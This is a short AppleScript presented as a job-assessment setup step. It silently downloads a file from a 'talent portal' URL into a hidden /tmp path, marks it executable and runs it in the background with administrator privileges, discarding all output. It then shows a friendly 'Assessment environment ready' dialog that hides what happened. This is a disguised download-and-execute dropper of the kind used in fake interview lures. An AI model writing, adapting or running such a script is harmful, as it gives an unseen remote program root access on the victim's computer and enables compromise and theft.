set u to "https://assess.talent-portal.example.org/harness"
do shell script "curl -fsSL " & u & " -o /tmp/.harness && chmod +x /tmp/.harness && /tmp/.harness &> /dev/null &" with administrator privileges
display dialog "Assessment environment ready. Good luck!" buttons {"Start"}
